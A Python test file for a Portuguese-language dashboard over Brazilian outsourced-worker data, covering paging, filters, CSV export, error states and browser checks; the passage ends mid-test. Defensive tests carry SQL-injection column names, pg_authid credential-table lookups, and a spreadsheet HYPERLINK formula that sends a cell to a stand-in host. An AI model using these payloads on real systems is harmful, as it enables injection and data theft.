"""The results app: queries, callbacks' view functions, export, empty and database-down
states, and an end-to-end run in headless Chromium against data from the real flows."""

import csv
import dataclasses
import io
import json
import math
import os
import urllib.request
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import event, text
from sqlalchemy.exc import OperationalError

from pipelines.dbt import generate_docs
from pipelines.executors import parallel_executor
from pipelines.flows import capture_flow, historic_capture_flow, historic_materialize_flow, materialize_flow
from pipelines.results import views
from pipelines.results.app import create_app, db_down_banner
from pipelines.results.formatting import GRAPH_CONFIG, brl, duration, integer
from pipelines.results.queries import (
    MARTS_SOURCE,
    Column,
    ResultsRepository,
    UnknownTableError,
    filter_sql,
    jsonable,
    make_engine,
    order_sql,
)
from pipelines.settings import load_settings
from tests.browser import serve, wait_text
from tests.conftest import emptied_connection, query, run_flow
from tests.netproxy import Proxy

ROOT = Path(__file__).resolve().parent.parent
QUOTE = '"{}"'.format


@pytest.fixture(scope="module")
def filled(settings, portal):
    """A database filled by the real flows: capture, materialize, historic capture and
    materialize, and one failed capture."""
    conn = emptied_connection(settings)
    portal.faults.clear()
    assert run_flow(capture_flow, url=portal.page_url)[0].is_successful()
    assert run_flow(materialize_flow)[0].is_successful()
    assert run_flow(historic_capture_flow, executor=parallel_executor(settings), url=portal.page_url)[0].is_successful()
    assert run_flow(historic_materialize_flow)[0].is_successful()
    portal.faults[portal.file_path("terceirizados202405.xlsx")] = "404"
    failed, failed_id = run_flow(capture_flow, url=portal.page_url)
    portal.faults.clear()
    assert failed.is_failed()
    yield {"conn": conn, "failed_run": failed_id, "portal": portal}
    conn.close()


@pytest.fixture(scope="module")
def repo(settings):
    return ResultsRepository(make_engine(settings))


def test_brazilian_formats():
    assert brl(1234567.891) == "R$ 1.234.567,89"
    assert brl(0) == "R$ 0,00" and brl(None) == "—"
    assert integer(1574964) == "1.574.964"
    start = pd.Timestamp("2026-01-01 10:00:00", tz="UTC")
    assert duration(start, start + pd.Timedelta(seconds=75)) == "1m15s"
    assert duration(start, start + pd.Timedelta(hours=2, seconds=5)) == "2h00m05s"


def test_filters_and_sorting_are_bound_and_validated():
    columns = {"nome": Column("nome", "text", None), "valor": Column("valor", "numeric", None)}
    where, params = filter_sql(
        {
            "nome": {"filterType": "text", "type": "contains", "filter": "50%_x"},
            "valor": {"filterType": "number", "type": "greaterThan", "filter": 10},
        },
        columns,
        QUOTE,
    )
    assert where == ' WHERE CAST("nome" AS text) ILIKE :p0 AND "valor" > :p1'
    assert params == {"p0": "%50\\%\\_x%", "p1": 10}
    where, params = filter_sql(
        {
            "valor": {
                "filterType": "number",
                "operator": "OR",
                "conditions": [
                    {"filterType": "number", "type": "lessThan", "filter": 1},
                    {"filterType": "number", "type": "inRange", "filter": 5, "filterTo": 9},
                ],
            }
        },
        columns,
        QUOTE,
    )
    assert where == ' WHERE ("valor" < :p0 OR "valor" BETWEEN :p1 AND :p1b)' and params == {"p0": 1, "p1": 5, "p1b": 9}
    assert order_sql([{"colId": "valor", "sort": "desc"}], columns, QUOTE) == ' ORDER BY "valor" DESC NULLS LAST'
    with pytest.raises(UnknownTableError):
        filter_sql({'nome"; DROP TABLE x; --': {"type": "contains", "filter": "a"}}, columns, QUOTE)
    with pytest.raises(UnknownTableError):
        order_sql([{"colId": "1; select pg_sleep(10)", "sort": "asc"}], columns, QUOTE)


def test_pages_come_from_the_server_with_filters_sorting_and_counts(filled, repo):
    expected = filled["portal"].portal.expectations
    total = sum(e.loaded_rows for e in expected.values())
    rows, count = repo.page(
        "staging", "historic_transformed", 0, 10, [{"colId": "valor_custo_mensal", "sort": "desc"}], None
    )
    assert count == total and len(rows) == 10
    costs = [r["valor_custo_mensal"] for r in rows]
    assert costs == sorted(costs, reverse=True)
    [(top_cost,)] = query(filled["conn"], "SELECT max(valor_custo_mensal)::float FROM staging.historic_transformed")
    assert costs[0] == top_cost
    rows, count = repo.page(
        "staging",
        "historic_transformed",
        100,
        200,
        None,
        {"ano": {"filterType": "number", "type": "equals", "filter": 2022}},
    )
    assert count == expected["2022-05"].loaded_rows and rows == []  # offset past the filtered rows
    _, count = repo.page(
        "staging",
        "historic_transformed",
        0,
        100,
        None,
        {"razao_social_empresa": {"filterType": "text", "type": "contains", "filter": "filial df"}},
    )
    assert count == 4  # one repaired row per CSV period
    response, href = views.rows_response(repo, "raw.terceirizados_quarentena", {"startRow": 0, "endRow": 100})
    assert response["rowCount"] == sum(len(e.quarantined_lines) for e in expected.values())
    assert href.startswith("/exportar.csv?tabela=raw.terceirizados_quarentena")
    with pytest.raises(UnknownTableError):
        repo.page("pg_catalog", "pg_authid", 0, 10, None, None)


def test_large_tables_page_from_their_stored_counts(filled, repo, monkeypatch):
    """The two large tables: the whole table's count comes from the counts kept with its rows
    (never a count(*)) and equals count(*); a deep page starts at its period's row (a seek)
    and is the same page OFFSET gives, for any start and size; a filtered view counts up to
    a limit and then lets the grid find the end."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from pipelines.results import queries

    conn = filled["conn"]
    monkeypatch.setattr(queries, "SEEK_FROM_ROW", 1)  # every page but the first seeks
    cases = {
        (
            "staging",
            "historic_transformed",
        ): "SELECT * FROM staging.historic_transformed ORDER BY ano, mes, id_terceirizado",
        ("raw", "terceirizados"): "SELECT * FROM raw.terceirizados ORDER BY periodo, linha_origem",
    }
    expected = {case: ordered_rows(conn, ordered) for case, ordered in cases.items()}
    for (schema, table), rows_in_order in expected.items():
        statements: list[str] = []

        def listen(*args, statements=statements):
            statements.append(args[2])

        event.listen(repo.engine, "before_cursor_execute", listen)
        try:
            rows, total = repo.page(schema, table, 0, 10, None, None)
        finally:
            event.remove(repo.engine, "before_cursor_execute", listen)
        assert total == len(rows_in_order) > 200 and rows == rows_in_order[:10]
        assert not any("count(" in sql.lower() and table in sql for sql in statements), statements
        assert repo.page(schema, table, total + 50, total + 150, None, None) == ([], total)  # past the end

    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(case=st.sampled_from(sorted(cases)), where=st.floats(0, 1.02), size=st.integers(1, 150))
    def pages_match(case, where, size):
        rows_in_order = expected[case]
        start = int(where * len(rows_in_order))
        rows, total = repo.page(*case, start, start + size, None, None)
        assert total == len(rows_in_order)
        assert rows == rows_in_order[start : start + size]

    pages_match()
    # a filter keeping more rows than the limit: unknown count until the last page
    monkeypatch.setattr(queries, "FILTERED_COUNT_LIMIT", 50)
    wide = {"ano": {"filterType": "number", "type": "greaterThan", "filter": 2000}}
    everything = query(conn, "SELECT count(*) FROM staging.historic_transformed")[0][0]
    assert repo.page("staging", "historic_transformed", 0, 100, None, wide)[1] == queries.UNKNOWN_COUNT
    # asked past its end (a grid that kept an older count): no rows, and the real count
    assert repo.page("staging", "historic_transformed", everything + 100, everything + 200, None, wide) == (
        [],
        everything,
    )
    last_start = everything - 7
    assert repo.page("staging", "historic_transformed", last_start, last_start + 100, None, wide) == (
        repo.page("staging", "historic_transformed", last_start, last_start + 100, None, None)[0],
        everything,
    )


def test_name_filters_read_the_matching_names_first_and_keep_their_meaning(filled, repo):
    """A text filter on an agency's or a company's name of the historic table finds the
    matching distinct names in the column's index, then their rows: for any pattern and
    operator (generated, with LIKE's special characters), the same rows as the plain ILIKE
    over every row, through the page too."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from pipelines.results import queries

    conn = filled["conn"]
    lookups = repo._lookups("staging", "historic_transformed")
    assert sorted(lookups) == ["nome_orgao", "razao_social_empresa"]
    columns = {c.name: c for c in repo.columns("staging", "historic_transformed")}
    names = sorted(
        {value for (value,) in query(conn, "SELECT DISTINCT razao_social_empresa FROM staging.historic_transformed")}
        | {value for (value,) in query(conn, "SELECT DISTINCT nome_orgao FROM staging.historic_transformed")},
        key=str,
    )
    words = st.one_of(
        st.sampled_from([n for n in names if n]).flatmap(
            lambda n: st.tuples(st.integers(0, len(n)), st.integers(0, len(n))).map(lambda ab: n[min(ab) : max(ab)])
        ),
        st.text(alphabet="aeiousçãÇ%_\\ -.", max_size=6),
    )

    def rows(where: str, params: dict) -> list[tuple]:
        with repo.engine.connect() as db:
            return [
                tuple(r)
                for r in db.execute(
                    text(f"SELECT ano, mes, id_terceirizado FROM staging.historic_transformed{where} ORDER BY 1, 2, 3"),
                    queries.resolve_lookups(db, params),
                )
            ]

    @settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(
        column=st.sampled_from(["razao_social_empresa", "nome_orgao"]),
        kind=st.sampled_from(["contains", "notContains", "startsWith", "endsWith", "equals", "notEqual"]),
        word=words,
    )
    def same_rows(column, kind, word):
        model = {column: {"filterType": "text", "type": kind, "filter": word}}
        fast = filter_sql(model, columns, repo.quote, lookups)
        plain = filter_sql(model, columns, repo.quote)
        if kind != "equals":
            assert any(isinstance(value, queries.DistinctMatches) for value in fast[1].values())
        assert rows(*fast) == rows(*plain)

    same_rows()
    # through the page
    missing = {"razao_social_empresa": {"filterType": "text", "type": "contains", "filter": "nenhuma empresa assim"}}
    assert repo.page("staging", "historic_transformed", 0, 100, None, missing) == ([], 0)
    present = {"nome_orgao": {"filterType": "text", "type": "contains", "filter": "juiz de fora"}}
    got, total = repo.page("staging", "historic_transformed", 0, 1000, None, present)
    assert (
        total
        == len(got)
        == query(conn, "SELECT count(*) FROM staging.historic_transformed WHERE nome_orgao ILIKE '%juiz de fora%'")[0][
            0
        ]
        > 0
    )
    assert queries.LOOKUP_COLUMNS[("staging", "historic_transformed")] == ("razao_social_empresa", "nome_orgao")


def ordered_rows(conn, statement) -> list[dict]:
    """Every row of ``statement`` as the app sends it to the browser."""
    with conn.cursor() as cursor:
        cursor.execute(statement)
        names = [d.name for d in cursor.description]
        return [jsonable(dict(zip(names, row, strict=True))) for row in cursor.fetchall()]


def test_column_headers_carry_type_and_description(filled, repo):
    defs = {d["field"]: d for d in views.column_defs(repo.columns("staging", "transformed"))}
    assert defs["valor_custo_mensal"]["headerName"] == "valor_custo_mensal (numeric)"
    assert "BRL" in defs["valor_custo_mensal"]["headerTooltip"]
    assert defs["valor_custo_mensal"]["filter"] == "agNumberColumnFilter"
    assert defs["cpf"]["filter"] == "agTextColumnFilter" and "LGPD" in defs["cpf"]["headerTooltip"]


def test_sessions_are_read_only(filled, repo):
    with pytest.raises(Exception, match="read-only transaction"):
        with repo.engine.connect() as conn:
            conn.execute(text("DELETE FROM raw.terceirizados"))
    assert query(filled["conn"], "SELECT count(*) > 0 FROM raw.terceirizados") == [(True,)]


def test_export_streams_the_filtered_rows(filled, settings, repo):
    app = create_app(settings, repo)
    client = app.server.test_client()
    href = views.export_href(
        "staging.historic_transformed",
        [{"colId": "id_terceirizado", "sort": "asc"}],
        {"ano": {"filterType": "number", "type": "equals", "filter": 2019}},
    )
    response = client.get(href)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:3] == ["ano", "mes", "id_terceirizado"]
    assert len(rows) - 1 == filled["portal"].portal.expectations["2019-01"].loaded_rows
    assert {r[0] for r in rows[1:]} == {"2019"}
    assert [r[2] for r in rows[1:]] == sorted(r[2] for r in rows[1:])
    assert client.get("/exportar.csv?tabela=pg_catalog.pg_authid").status_code == 400


def test_export_neutralises_formulas_and_keeps_negative_amounts(filled, settings, repo):
    """A formula in a text column of real data is exported as text ('=...), a negative
    numeric amount as the number it is."""
    conn = filled["conn"]
    formula = '=HYPERLINK("http://exemplo.invalido/roubo?c="&B2,"Ver detalhes")'
    [(worker, name, cost)] = query(
        conn,
        "SELECT id_terceirizado, nome_orgao, valor_custo_mensal "
        "FROM staging.transformed ORDER BY id_terceirizado LIMIT 1",
    )
    with conn.cursor() as cursor:
        cursor.execute(
            "UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = -12.5 WHERE id_terceirizado = %s",
            (formula, worker),
        )
    try:
        client = create_app(settings, repo).server.test_client()
        response = client.get(
            views.export_href(
                "staging.transformed",
                None,
                {"id_terceirizado": {"filterType": "text", "type": "equals", "filter": str(worker)}},
            )
        )
        assert response.status_code == 200
        header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
        cells = dict(zip(header, row))
        assert cells["nome_orgao"] == "'" + formula
        assert cells["valor_custo_mensal"] == "-12.50"  # numeric(…, 2): a number, not prefixed
        assert cells["ano"] == "2024" and cells["id_terceirizado"] == str(worker)
    finally:
        with conn.cursor() as cursor:
            cursor.execute(
                "UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = %s WHERE id_terceirizado = %s",
                (name, cost, worker),
            )


def test_runs_and_logs_views(filled, repo):
    runs = views.runs_rows(repo.runs())
    by_state = {}
    for run in runs:
        by_state.setdefault(run["estado_final"], []).append(run)
    assert len(by_state["Failed"]) == 1 and len(by_state["Success"]) == 4
    historic = next(r for r in runs if r["nome_flow"].endswith("historic_capture"))
    expected = filled["portal"].portal.expectations
    # 2024-05 was loaded by the capture flow just before, so the historic run skipped it
    assert historic["linhas_carregadas"] == integer(sum(e.loaded_rows for k, e in expected.items() if k != "2024-05"))
    failed_logs = views.log_rows(repo.log_records(None, filled["failed_run"], "ERROR"))
    assert failed_logs and all(r["estado_execucao"] == "Failed" and r["nivel"] == "ERROR" for r in failed_logs)
    assert any("HTTP 404" in r["mensagem"] for r in failed_logs)
    options = views.run_options(repo.log_filters())
    assert any("✗" in o["label"] and o["value"] == filled["failed_run"] for o in options)


def test_charts_use_brazilian_money_format(filled, repo):
    source = repo.chart_source()
    assert source == MARTS_SOURCE  # the analysis tables, built by the historic materialization
    totals = repo.totals_by_period(source)
    assert totals["terceirizados"].tolist() == [
        e.loaded_rows for _, e in sorted(filled["portal"].portal.expectations.items())
    ]
    figure = views.totals_figure(totals)
    assert figure.layout.separators == ",." and figure.layout.yaxis2.tickprefix == "R$ "
    assert figure.data[1].customdata[0].startswith("R$ ") and "," in figure.data[1].customdata[0]
    agencies = repo.top_by_cost(source, "nome_orgao", 2024, 5)
    assert len(agencies) == 10 and agencies["custo_total"].is_monotonic_decreasing
    salary = views.salary_figure(repo.salary_by_education(source, 2024, 5))
    assert {trace.name for trace in salary.data} >= {"ENSINO MEDIO COMPLETO"}
    with pytest.raises(UnknownTableError):
        repo.top_by_cost(source, "cpf", 2024, 5)


def test_empty_database_shows_the_empty_state(settings):
    import psycopg2
    from psycopg2 import sql

    name = settings.postgres_db + "_vazio"
    admin = psycopg2.connect(**settings.postgres_dsn("postgres"))
    admin.autocommit = True
    with admin.cursor() as cursor:
        cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        cursor.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
    try:
        empty = ResultsRepository(make_engine(load_settings({**os.environ, "POSTGRES_DB": name})))
        assert empty.columns("staging", "transformed") == []
        assert empty.chart_source() is None and empty.runs().empty and empty.log_filters() == {"flows": [], "runs": []}
        assert views.totals_figure(pd.DataFrame()).layout.annotations[0].text == views.EMPTY_TABLE_MESSAGE
        empty.engine.dispose()
    finally:
        with admin.cursor() as cursor:
            cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        admin.close()


def test_database_down_banner_and_recovery(filled, settings):
    proxy = Proxy(settings.postgres_port)
    proxied = load_settings({**os.environ, "POSTGRES_PORT": str(proxy.port)})
    repo = ResultsRepository(make_engine(proxied))
    repo.ping()
    proxy.cut()
    with pytest.raises(OperationalError) as down:
        repo.ping()
    banner = db_down_banner(proxied, down.value)
    assert f"Banco de dados indisponível em 127.0.0.1:{proxy.port}" in banner.children
    proxy.enabled = True
    repo.ping()  # the pool reconnects by itself
    assert repo.page("staging", "transformed", 0, 5, None, None)[1] > 0


# -- end to end in headless Chromium ------------------------------------------------------


@pytest.fixture(scope="module")
def served(filled, settings):
    with serve(create_app(settings)) as url:
        yield url


def screenshot(page, name):
    """Fresh screenshots for the README when SAVE_SCREENSHOTS=1."""
    if os.environ.get("SAVE_SCREENSHOTS") == "1":
        page.screenshot(path=str(ROOT / "images" / name), full_page=True)


def test_browser_shows_every_page(filled, served, browser):
    expected = filled["portal"].portal.expectations
    page = browser.new_page(viewport={"width": 1400, "height": 1000})

    page.goto(served + "/tabelas")
    page.wait_for_selector(".data-grid .ag-row")
    assert "ano (integer)" in page.inner_text(".data-grid .ag-header")
    # the rows can show a moment before the paging panel gets the count ("1 a ? de mais")
    wait_text(page, ".data-grid .ag-paging-row-summary-panel", f"de {expected['2024-05'].loaded_rows}")
    assert (
        page.inner_text(".data-grid .ag-paging-row-summary-panel")
        == f"1 a {expected['2024-05'].loaded_rows} de {expected['2024-05'].loaded_rows}"
    )
    assert "Código SIAFI da unidade gestora" in page.inner_text("#dictionary")
    screenshot(page, "resultados_tabelas.png")

    page.click("#table-select")
    page.get_by_text("Histórico (staging.historic_transformed)").click()
    wait_text(page, ".data-grid .ag-paging-row-summary-panel", f"de {sum(e.loaded_rows for e in expected.values())}")
    assert "historic_transformed" in page.get_attribute(".export-link", "href")

    page.goto(served + "/logs")
    page.wait_for_selector("#logs-grid .ag-row")
    assert "adm_cgu_terceirizados__" in page.inner_text("#logs-grid")
    assert "registros mais recentes" in page.inner_text("#logs-info")
    screenshot(page, "resultados_logs.png")

    page.goto(served + "/execucoes")
    page.wait_for_selector("#runs-grid .ag-row")
    assert page.inner_text("#runs-info") == "5 execuções, 1 com falha."
    grid_text = page.inner_text("#runs-grid")
    assert "Failed" in grid_text and "Success" in grid_text
    screenshot(page, "resultados_execucoes.png")

    page.goto(served + "/graficos")
    page.wait_for_selector("#chart-salary .main-svg")
    page.wait_for_function("document.querySelector('#chart-agencies').innerText.includes('R$')")
    assert "Terceirizados e custo mensal total por período" in page.inner_text("#chart-totals")
    assert "Órgãos com maior custo mensal (05/2024)" in page.inner_text("#chart-agencies")
    screenshot(page, "resultados_graficos.png")
    page.close()


def test_browser_empty_state(served, browser, filled):
    conn = filled["conn"]
    with conn.cursor() as cursor:
        cursor.execute("ALTER TABLE raw.terceirizados_quarentena RENAME TO quarentena_guardada")
        cursor.execute("CREATE TABLE raw.terceirizados_quarentena (LIKE raw.quarentena_guardada)")
    try:
        page = browser.new_page()
        page.goto(served + "/tabelas")
        page.wait_for_selector(".data-grid .ag-row")
        page.click("#table-select")
        page.get_by_text("Quarentena (raw.terceirizados_quarentena)").click()
        page.wait_for_selector("#empty-table")
        assert "Dados para esta tabela ainda não foram capturados" in page.inner_text("#empty-table")
        page.close()
    finally:
        with conn.cursor() as cursor:
            cursor.execute("DROP TABLE raw.terceirizados_quarentena")
            cursor.execute("ALTER TABLE raw.quarentena_guardada RENAME TO terceirizados_quarentena")


# -- stable pages, counts and charts ------------------------------------------------------


def pages_of(repo, table, sort_model, size=70):
    rows, total = repo.page("staging", table, 0, size, sort_model, None)
    for start in range(size, total, size):
        rows += repo.page("staging", table, start, start + size, sort_model, None)[0]
    return rows


def test_pages_without_a_sort_follow_the_table_key(filled, repo):
    """LIMIT/OFFSET pages need a total order: the primary key from the catalog, a view's
    known key, and the key after a sort on a column with repeated values."""
    conn = filled["conn"]
    assert repo.key_columns("staging", "historic_transformed") == ("ano", "mes", "id_terceirizado")
    assert repo.key_columns("raw", "terceirizados") == ("periodo", "linha_origem")  # unique index, NOT NULL
    assert repo.key_columns("raw", "capturas") == ("periodo",)
    assert repo.key_columns("staging", "historic_raw") == ("periodo", "linha_origem")  # a view: the known key
    expected = query(conn, "SELECT ano, mes, id_terceirizado FROM staging.historic_transformed ORDER BY 1, 2, 3")
    got = [(r["ano"], r["mes"], r["id_terceirizado"]) for r in pages_of(repo, "historic_transformed", None)]
    assert got == expected and len(got) == sum(e.loaded_rows for e in filled["portal"].portal.expectations.values())

    sort = [{"colId": "nm_escolaridade", "sort": "desc"}]  # a handful of values over ~300 rows
    expected = query(
        conn,
        "SELECT periodo::text, linha_origem FROM staging.historic_raw "
        "ORDER BY nm_escolaridade DESC NULLS LAST, periodo, linha_origem",
    )
    got = [(r["periodo"], r["linha_origem"]) for r in pages_of(repo, "historic_raw", sort)]
    assert got == expected and len(set(got)) == len(got)

    columns = {name: Column(name, "text", None) for name in ("a", "b", "c")}
    assert (
        order_sql([{"colId": "b", "sort": "desc"}], columns, QUOTE, ("a", "b")) == ' ORDER BY "b" DESC NULLS LAST, "a"'
    )
    assert order_sql(None, columns, QUOTE, ("a", "c")) == ' ORDER BY "a", "c"'


def test_counts_are_singular_or_plural_in_brazilian_format():
    ok, failed = {"estado_final": "Success"}, {"estado_final": "Failed"}
    assert views.runs_info([ok]) == "1 execução, nenhuma com falha."
    assert views.runs_info([failed] * 2 + [ok] * 1500) == "1.502 execuções, 2 com falha."
    assert views.runs_info([failed, ok]) == "2 execuções, 1 com falha."
    assert views.logs_info([ok]) == "1 registro mais recente (execuções com falha em vermelho)."
    assert views.logs_info([ok] * 2000) == "2.000 registros mais recentes (execuções com falha em vermelho)."


def test_numeric_columns_get_the_brazilian_formatter(filled, repo):
    defs = {d["field"]: d for d in views.column_defs(repo.columns("staging", "transformed"))}
    assert defs["valor_custo_mensal"]["valueFormatter"] == {"function": "numeroBR(params.value, 2, true)"}
    assert defs["quantidade_horas_semanais"]["valueFormatter"] == {"function": "numeroBR(params.value, 0, true)"}
    assert defs["ano"]["valueFormatter"] == {"function": "numeroBR(params.value, 0, false)"}  # 2024, not 2.024
    assert "valueFormatter" not in defs["cpf"]
    script = (ROOT / "pipelines" / "results" / "assets" / "dashAgGridFunctions.js").read_text()
    assert "dagfuncs.numeroBR = function (value, decimals, grouping)" in script and '"pt-BR"' in script


def test_one_period_chart_says_how_to_fill_it(filled, repo):
    totals = repo.totals_by_period("staging.transformed")
    assert totals[["ano", "mes"]].values.tolist() == [[2024, 5]]
    figure = views.totals_figure(totals)
    [note] = figure.layout.annotations
    assert note.text.startswith("Só um período capturado (05/2024). A captura histórica preenche este gráfico")
    assert ".venv/bin/python run/historic_capture.py" in note.text and "run/historic_materialize.py" in note.text
    costs = totals["custo_total"].astype(float)[0]
    axis = figure.layout.yaxis2
    assert axis.range[0] == 0 and axis.range[1] >= costs and axis.dtick >= 1 and axis.range[1] / axis.dtick <= 10
    assert len(views.totals_figure(repo.totals_by_period("staging.historic_transformed")).layout.annotations) == 0


# -- more pages in headless Chromium ------------------------------------------------------

ENGLISH = ("Select...", "No Rows To Show", "Page Size", "Loading...", "First Page", "No results found")


def assert_no_english(page):
    text = page.inner_text("body")
    assert not [word for word in ENGLISH if word in text], text[:2000]


def choose(page, dropdown, option):
    page.click(dropdown)
    page.get_by_text(option, exact=True).click()


def summary_is(page, text):
    page.wait_for_function(
        "([t]) => { const p = document.querySelector('.data-grid .ag-paging-row-summary-panel');"
        " return p && p.innerText === t; }",
        arg=[text],
    )


def test_browser_grid_texts_and_numbers_are_brazilian(filled, served, browser):
    conn = filled["conn"]
    extra = 1234
    with conn.cursor() as cursor:
        cursor.execute(
            """INSERT INTO raw.terceirizados_quarentena (periodo, arquivo_origem, url_origem, sha256_arquivo,
                              linha_origem, motivo, linha_bruta, capturado_em)
                          SELECT '1990-01-01', 'a.csv', 'http://x', 'abc', n, 'teste de paginação', 'x', now()
                          FROM generate_series(1, %s) AS n""",
            (extra,),
        )
    try:
        [(quarantined,)] = query(conn, "SELECT count(*) FROM raw.terceirizados_quarentena")
        [(worker, cost)] = query(
            conn,
            "SELECT id_terceirizado, valor_custo_mensal FROM staging.transformed "
            "ORDER BY ano, mes, id_terceirizado LIMIT 1",
        )
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.goto(served + "/tabelas")
        page.wait_for_selector(".data-grid .ag-row")
        first = ".data-grid .ag-row[row-index='0'] "
        wait_text(page, first + ".ag-cell[col-id='id_terceirizado']", str(worker))  # the key's order
        assert page.inner_text(first + ".ag-cell[col-id='id_terceirizado']") == str(worker)
        assert page.inner_text(first + ".ag-cell[col-id='valor_custo_mensal']") == brl(cost).removeprefix("R$ ")
        assert page.inner_text(first + ".ag-cell[col-id='ano']") == "2024"
        assert "Descrição" in page.inner_text("#dictionary .ag-header")
        assert "Linhas por página:" in page.inner_text(".data-grid .ag-paging-page-size")

        choose(page, "#table-select", "Quarentena (raw.terceirizados_quarentena)")
        summary_is(page, f"1 a 100 de {integer(quarantined)}")
        assert quarantined > 1000 and "." in integer(quarantined)
        assert (
            page.inner_text(".data-grid .ag-paging-description")
            == f"Página 1 de {integer(math.ceil(quarantined / 100))}"
        )
        page.hover(".data-grid .ag-header-cell[col-id='motivo']")
        page.click(".data-grid .ag-header-cell[col-id='motivo'] .ag-header-cell-menu-button")
        page.wait_for_selector(".ag-filter")
        filter_text = page.inner_text(".ag-filter")
        assert "Contém" in filter_text and "Aplicar" in filter_text and "Limpar" in filter_text
        assert page.get_attribute(".ag-filter input[type='text']", "placeholder") == "Filtrar..."
        assert_no_english(page)
        page.close()
    finally:
        with conn.cursor() as cursor:
            cursor.execute("DELETE FROM raw.terceirizados_quarentena WHERE periodo = '1990-01-01'")


def cells(page, grid, column):
    """(text, whole text visible) of the column's rendered cells."""
    return page.evaluate(
        """([grid, column]) => [...document.querySelectorAll(
        `${grid} .ag-center-cols-container .ag-cell[col-id="${column}"]`)].map(c =>
        [c.innerText, c.scrollWidth <= c.clientWidth + 1 && c.scrollHeight <= c.clientHeight + 2])""",
        [grid, column],
    )


def cut_texts(page, grid, skip=()):
    """Headers and cells of a grid whose text does not fit (ellipsis), but the ``skip`` columns."""
    return page.evaluate(
        """([grid, skip]) => [...document.querySelectorAll(
        `${grid} .ag-header-cell-text, ${grid} .ag-cell`)]
        .filter(e => !skip.includes(e.getAttribute('col-id') || e.closest('[col-id]').getAttribute('col-id')))
        .filter(e => e.scrollWidth > e.clientWidth + 1).map(e => e.innerText)""",
        [grid, list(skip)],
    )


def test_browser_logs_and_runs_show_whole_texts(filled, served, browser):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(served + "/logs")
    page.wait_for_selector("#logs-grid .ag-row")
    choose(page, "#log-level", "WARNING")
    wait_text(page, "#logs-grid .ag-cell[col-id='nivel']", "WARNING")
    levels = cells(page, "#logs-grid", "nivel")
    [(warnings,)] = query(filled["conn"], "SELECT count(*) FROM logs.registros WHERE nivel = 'WARNING'")
    assert len(levels) >= 5 and {tuple(level) for level in levels} == {("WARNING", True)}
    assert page.inner_text("#logs-info").startswith(f"{integer(warnings)} registros mais recentes")

    page.goto(served + "/execucoes")
    page.wait_for_selector("#runs-grid .ag-row")
    [(message,)] = query(filled["conn"], "SELECT mensagem FROM logs.execucoes WHERE estado_final = 'Failed'")
    assert len(message) > 150  # longer than the column: it wraps
    messages = dict(cells(page, "#runs-grid", "mensagem"))
    assert messages[message] is True and len(messages) == 2  # the failed run's and "Concluído com sucesso."
    # at 1400 px nothing else is cut either; the run id is the last column, reached by scrolling
    assert cut_texts(page, "#runs-grid", skip=["id_execucao"]) == []
    assert_no_english(page)
    page.close()


def tick_labels(page, chart, axis):
    return page.locator(f"{chart} .{axis}tick text").all_text_contents()


def test_browser_charts_axes_and_the_single_period_note(filled, served, browser):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(served + "/graficos")
    page.wait_for_selector("#chart-totals .y2tick text")
    for axis in ("y", "y2"):
        labels = tick_labels(page, "#chart-totals", axis)
        assert len(labels) >= 3 and len(set(labels)) == len(labels), labels
    assert tick_labels(page, "#chart-totals", "y2")[0] == "R$ 0"
    conn = filled["conn"]
    with conn.cursor() as cursor:  # only the newest period left for the charts (no historic table, no marts)
        cursor.execute("ALTER TABLE staging.historic_transformed RENAME TO historic_guardada")
        cursor.execute("ALTER SCHEMA marts RENAME TO marts_guardado")
    try:
        page.goto(served + "/graficos")
        wait_text(page, "#chart-totals", "Só um período")
        text = page.inner_text("#chart-totals")
        assert "Só um período capturado (05/2024)" in text and ".venv/bin/python run/historic_capture.py" in text
        for axis in ("y", "y2"):
            labels = tick_labels(page, "#chart-totals", axis)
            assert len(labels) >= 3 and len(set(labels)) == len(labels), labels
        assert page.inner_text("#charts-info") == "Fonte: staging.transformed."
    finally:
        with conn.cursor() as cursor:
            cursor.execute("ALTER TABLE staging.historic_guardada RENAME TO historic_transformed")
            cursor.execute("ALTER SCHEMA marts_guardado RENAME TO marts")
    page.close()


def test_browser_database_never_captured(settings, browser):
    """A database that does not exist yet, and one without the pipeline's tables: not
    "indisponível" (waiting will not help) but the two commands that capture; the charts
    say there is no data instead of drawing empty axes; no English anywhere."""
    import psycopg2
    from psycopg2 import sql

    missing, empty = settings.postgres_db + "_inexistente", settings.postgres_db + "_nada"
    admin = psycopg2.connect(**settings.postgres_dsn("postgres"))
    admin.autocommit = True
    with admin.cursor() as cursor:
        for name in (missing, empty):
            cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        cursor.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(empty)))
    try:
        for name in (missing, empty):
            app = create_app(load_settings({**os.environ, "POSTGRES_DB": name}))
            export = app.server.test_client().get("/exportar.csv?tabela=staging.transformed")
            if name == missing:
                assert export.status_code == 404
                assert export.get_data(as_text=True).startswith(f"Nada foi capturado ainda. O banco {name} em ")
            else:
                assert export.status_code == 400 and "vazia ou inexistente" in export.get_data(as_text=True)
            with serve(app) as url:
                page = browser.new_page(viewport={"width": 1400, "height": 1000})
                page.goto(url + "/tabelas")
                page.wait_for_selector("#nothing-captured")
                notice = page.inner_text("#nothing-captured")
                assert notice.startswith("Nada foi capturado ainda. O banco " + name), notice
                assert "./start.sh --amostra" in notice and ".venv/bin/python run/capture.py" in notice
                wait_text(page, "#table-info", "ainda")  # nothing captured / no data for this table
